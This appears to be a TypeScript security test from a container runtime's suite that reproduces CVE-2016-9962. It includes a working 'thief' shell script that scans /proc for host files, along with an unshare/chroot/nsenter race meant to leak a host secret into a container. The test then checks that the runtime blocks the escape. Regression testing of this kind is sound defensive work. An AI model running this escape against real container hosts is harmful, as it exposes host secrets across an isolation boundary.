// CVE-2016-9962: a process that joins a container is seen from inside it before it has become harmless: its root and its
// open directories are those of the host.

import { existsSync, readFileSync, writeFileSync } from 'node:fs'

import type { Box } from '#tests/support/box.ts'
import { eventually } from '#tests/support/eventually.ts'
import { attack, naively } from './attack.ts'

const SECRET = 'a secret of the host'

/** For some seconds, looks for the secret below the root, the working directory and every open file of every process. */
const thief = (path: string): string => `
  end=$(( $(date +%s) + 4 ))
  echo begun > /tmp/begun
  while [ $(date +%s) -lt $end ]; do
    for process in /proc/[0-9]*; do
      for dir in $process/root $process/cwd $process/fd/*; do
        cat $dir${path} >> /tmp/taken && break 3
      done
    done
  done 2>/dev/null
  echo done > /tmp/done
`

/** All that root of a container can be given without being root of the host. */
const CAPABILITIES = ['CAP_SYS_PTRACE', 'CAP_DAC_OVERRIDE', 'CAP_DAC_READ_SEARCH', 'CAP_SYS_ADMIN', 'CAP_KILL']

attack({
  name: 'CVE-2016-9962: the host is reached through a process that joins the container',
  prepare: (box) => {
    writeFileSync(box.path('secret'), SECRET)
    writeFileSync(`${box.rootfs}/thief`, thief(box.path('secret')))
  },
  naive: (box) =>
    naively(
      box,
      `mount -t tmpfs none "$ROOTFS/proc"
       unshare --pid --fork sh -c 'mount -t proc proc "$ROOTFS/proc"; exec chroot "$ROOTFS" sh /thief' &
       while [ ! -e "$ROOTFS/tmp/begun" ]; do sleep 0.05; done
       nsenter --pid="/proc/$(pgrep -P $!)/ns/pid" sleep 1; wait`,
    ),
  bunc: async (box) => {
    const sets = { bounding: CAPABILITIES, effective: CAPABILITIES, permitted: CAPABILITIES }
    await box.running({ process: { args: ['sh', '/thief'], capabilities: sets } })
    await eventually('the thief at work', () => existsSync(`${box.rootfs}/tmp/begun`))
    for (let i = 0; i < 30; i++) await box.exec(['true'])
    await eventually('the end of the thief', () => existsSync(`${box.rootfs}/tmp/done`), 20_000)
  },
  harm: (box) => taken(box).includes(SECRET),
})

function taken(box: Box): string {
  const path = `${box.rootfs}/tmp/taken`
  return existsSync(path) ? readFileSync(path, 'utf8') : ''
}
